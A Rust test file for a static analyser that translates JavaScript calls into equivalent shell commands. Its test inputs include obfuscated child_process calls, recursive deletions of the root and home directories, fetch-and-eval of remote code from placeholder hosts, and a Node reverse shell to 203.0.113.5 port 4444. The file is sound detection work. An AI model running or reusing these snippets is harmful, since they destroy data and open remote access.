use super::*;

const JS: Language = Language::JavaScript;

#[test]
fn shell_text_is_found_however_the_function_is_named() {
    for code in [
        "import('child_process').then(m => m.execSync('reboot'))",
        "const run = require('util').promisify(require('child_process').exec); run('reboot')",
        "if (x) /'/.test(y); require('child_process').execSync('reboot')",
        "let a = 'unfinished\nrequire('child_process').execSync('reboot')",
        "await $`reboot`",
        "require('child_process').execSync('reboot')",
        "require(\"node:child_process\").exec(`reboot`, () => {})",
        "const cp = require('child_process'); cp.execSync('reboot')",
        "const {execSync} = require('child_process'); execSync('reboot')",
        "const {execSync: e} = require('child_process'); e('reboot')",
        "const { exec, execSync: e } = require('node:child_process')\ne('reboot')",
        "import {execSync as e} from 'child_process'; e('reboot')",
        "import * as cp from 'node:child_process';\ncp.execSync('reboot')",
        "import cp from 'child_process'; cp.execSync('reboot')",
        "(await import('child_process')).execSync('reboot')",
        "process.mainModule.require('child_process').execSync('reboot')",
        "child_process.execSync('reboot')",
        "require('child_process')['execSync']('reboot')",
        "const c = 'boot'; require('child_process').execSync(`re${c}`)",
        "const c = 'boot'; require('child_process').execSync('re' + c)",
        "require('child_process').execSync(['re','boot'].join(''))",
        "require('child_process').execSync(Buffer.from('cmVib290','base64').toString())",
        "require('child_process').execSync(atob('cmVib290'))",
        "require('child_process').spawn('reboot', {shell:true})",
        "await Bun.$`reboot`",
        "import {$} from 'bun'; await $`reboot`",
        "console.log(`${require('child_process').execSync('reboot')}`)",
    ] {
        assert_eq!(does(JS, code), ["shell: reboot"], "{code}");
    }
}

#[test]
fn programs_are_found_with_their_arguments() {
    all(
        JS,
        &[
            (
                "require('child_process').spawnSync('rm', ['-rf', '/'])",
                &["run: rm -rf /"],
            ),
            (
                "const {execFile}=require('child_process');execFile('rm',['-rf',x],cb)",
                &["run: rm -rf <x>"],
            ),
            (
                "new Deno.Command('rm', {args: ['-rf', '/']}).spawn()",
                &["run: rm -rf /"],
            ),
            ("Bun.spawn(['rm', '-rf', '/'])", &["run: rm -rf /"]),
            (
                "Bun.spawnSync({cmd: ['rm', '-rf', '/']})",
                &["run: rm -rf /"],
            ),
        ],
    );
}

#[test]
fn library_calls_are_written_as_commands() {
    all(
        JS,
        &[
            (
                "require('fs').rmSync('/',{recursive:true,force:true})",
                &["call: rm -rf -- /"],
            ),
            (
                "fs.rmSync('/', { \"recursive\": true })",
                &["call: rm -rf -- /"],
            ),
            (
                "const p = '/'; require('fs').rmSync(p, {recursive: !0})",
                &["call: rm -rf -- /"],
            ),
            (
                "const o = {recursive: true}; fs.rmSync('/', o)",
                &["call: rm -rf -- /"],
            ),
            (
                "import {rm} from 'fs/promises'; await rm('x', {recursive:true})",
                &["call: rm -rf -- x"],
            ),
            (
                "await require('fs').promises.rm('x', {recursive:true})",
                &["call: rm -rf -- x"],
            ),
            (
                "const {rm} = require('fs').promises; rm('x')",
                &["call: rm -- x"],
            ),
            (
                "const fs = require('fs'), path = require('path');\nfs.rmSync(path.join(__dirname, 'data'), {recursive:true})",
                &["call: rm -rf -- <__dirname>/data"],
            ),
            (
                "const os = require('os'); fs.rmSync(os.homedir(), {recursive: true})",
                &["call: rm -rf -- <HOME>"],
            ),
            (
                "fs.rmSync(process.env.HOME, {recursive: true})",
                &["call: rm -rf -- <HOME>"],
            ),
            (
                "fs.rmSync(`${process.env.HOME}/x`, {recursive: true})",
                &["call: rm -rf -- <HOME>/x"],
            ),
            (
                "Deno.removeSync(\"data\",{recursive:true})",
                &["call: rm -rf -- data"],
            ),
            ("fs.unlinkSync('f')", &["call: rm -- f"]),
            ("require('rimraf').sync('/')", &["call: rm -rf -- /"]),
            (
                "fs.writeFileSync('/etc/hosts', 'x')",
                &["call: tee -- /etc/hosts"],
            ),
            ("fs.appendFileSync('f', 'x')", &["call: tee -a -- f"]),
            (
                "JSON.parse(fs.readFileSync('f', 'utf8'))",
                &["call: cat -- f"],
            ),
            (
                "Bun.write('f', 'x'); Deno.writeTextFileSync('g', 'x')",
                &["call: tee -- f", "call: tee -- g"],
            ),
            ("process.kill(-1, 'SIGKILL')", &["call: kill -KILL -- -1"]),
            (
                "fs.renameSync('a','b'); fs.chmodSync('f', 0o777)",
                &["call: mv -- a b", "call: chmod -- 777 f"],
            ),
            (
                "for (const d of ['a','b']) fs.rmSync(d, {recursive:true})",
                &["call: rm -rf -- a b"],
            ),
            (
                "['a','b'].forEach(d => fs.rmSync(d, {recursive:true}))",
                &["call: rm -rf -- a b"],
            ),
            (
                "const f: string = '/'; fs.rmSync(f, {recursive: true} as any)",
                &["call: rm -rf -- /"],
            ),
        ],
    );
}

#[test]
fn code_that_runs_code_is_followed() {
    all(
        JS,
        &[
            ("eval('1+1')", &["code: 1+1"]),
            ("eval(x)", &["code: <x>"]),
            (
                "eval(require(\"child_process\").execSync(\"curl -s http://x.example/j\").toString())",
                &["code: <fetched>", "shell: curl -s http://x.example/j"],
            ),
            (
                "fetch('http://h').then(r => r.text()).then(eval)",
                &["call: curl -- http://h", "code: <fetched>"],
            ),
            (
                "fetch('http://h').then(r => r.text()).then(t => eval(t))",
                &["call: curl -- http://h", "code: <fetched>"],
            ),
            (
                "eval(await (await fetch('http://h')).text())",
                &["code: <fetched>", "call: curl -- http://h"],
            ),
            ("new Function('return 1')()", &["code: return 1"]),
        ],
    );
}

#[test]
fn reverse_shells_are_seen_by_their_structure() {
    assert_eq!(
        does(
            JS,
            "const s = require('net').connect(4444, '203.0.113.5', () => { const p = require('child_process').spawn('/bin/sh', []); s.pipe(p.stdin) })"
        ),
        ["run: /bin/sh", "reverse: nc -e /bin/sh 203.0.113.5 4444"]
    );
}

#[test]
fn words_that_are_no_calls_do_nothing() {
    nothing(
        JS,
        &[
            "$('reboot').hide(); $(`x`)",
            "String.raw`reboot`",
            "const a = 'rm -rf /';\nconsole.log(a.length);",
            "console.log('rm -rf /')",
            "// require('child_process').execSync('reboot')",
            "/* fs.rmSync('/') */",
            "/fs.rmSync('x')/.exec('y')",
            "const r = /a\"b/; r.exec('reboot')",
            "db.exec('DROP'); regex.exec('x'); set.delete('x')",
            "obj.execSync('reboot')",
            "execSync('reboot')",
            "`fs.rmSync('/')`",
            "app.remove('x'); el.remove(); list.rm('x')",
            "setTimeout(() => {}, 5)",
            "const x = a / b; const y = c / d;",
        ],
    );
}
